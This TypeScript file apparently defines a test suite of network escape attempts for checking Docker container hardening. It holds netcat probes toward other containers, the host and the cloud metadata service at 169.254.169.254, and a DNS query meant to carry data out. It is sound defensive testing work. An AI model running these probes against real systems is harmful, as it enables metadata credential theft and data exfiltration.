import type { Attack } from '../attack';

/** What a service at an address answers, if it does. */
const get = (address: string, port: number) => `printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 3 ${address} ${port} | grep "200 OK"`;

const NO_WAY = { stoppedBy: 'internal network', saying: /^$|unreachable|No route to host|timed out|refused/ } as const;

/** Attacks through the network: the plain container is on the default bridge, the hardened one on an internal network of one edge. */
export const NETWORK: readonly Attack[] = [
  {
    id: 'other-container',
    attempt: 'reach a container to which it has no edge',
    command: get('$OTHER', 80),
    plain: 'succeeds',
    hardened: { stoppedBy: 'a network for each edge', saying: /^$|unreachable|timed out/ },
  },
  {
    id: 'other-container-by-name',
    attempt: 'find the address of a container to which it has no edge',
    command: 'timeout 3 nslookup -type=a database 127.0.0.11 | grep -A1 "^Name:"',
    place: 'alone',
    plain: { stoppedBy: 'the default bridge has no names', saying: /^$|refused|timed out|Terminated/ },
    hardened: { stoppedBy: 'a network for each edge', saying: /^$|timed out|Terminated/ },
  },
  { id: 'outside', attempt: 'reach the outside', command: get('203.0.113.2', 80), plain: 'succeeds', hardened: NO_WAY },
  {
    id: 'metadata',
    attempt: "reach the cloud's metadata service (169.254.169.254)",
    command: get('169.254.169.254', 80),
    plain: 'succeeds',
    hardened: NO_WAY,
  },
  {
    id: 'name-outside',
    attempt: 'carry data outside in questions for names',
    command: 'nslookup -type=a data.outside.test | grep "Address: 203.0.113.2$"',
    plain: 'succeeds',
    hardened: { stoppedBy: 'internal network', saying: /^$|timed out/ },
  },
  {
    id: 'host-service',
    attempt: "reach a service of the host at the network's gateway",
    command: get('$GATEWAY', 8099),
    plain: 'succeeds',
    hardened: { stoppedBy: 'no address of the host on internal networks', saying: /^$|unreachable|No route to host|timed out|refused/ },
  },
  {
    id: 'host-service-elsewhere',
    attempt: 'reach a service of the host at another of its addresses',
    command: get('203.0.113.1', 8099),
    plain: 'succeeds',
    hardened: NO_WAY,
  },
  {
    id: 'ping-socket',
    attempt: 'open a socket for ICMP echo',
    command: 'attempt ping-socket',
    plain: 'succeeds',
    hardened: 'succeeds',
    remedy: 'the sysctl `net.ipv4.ping_group_range: "1 0"`; it takes no capability since 20.10, and reaches only where packets may go',
    remedied: { by: { sysctls: { 'net.ipv4.ping_group_range': '1 0' } }, saying: /Permission denied/ },
  },
  {
    id: 'bind-port-80',
    attempt: 'listen at port 80',
    command: 'attempt bind-port 80',
    plain: 'succeeds',
    hardened: 'succeeds',
    remedy: 'the sysctl `net.ipv4.ip_unprivileged_port_start: "1024"`; the engine sets 0 since 20.10, and nothing of it is published',
    remedied: { by: { sysctls: { 'net.ipv4.ip_unprivileged_port_start': '1024' } }, saying: /Permission denied/ },
  },
];
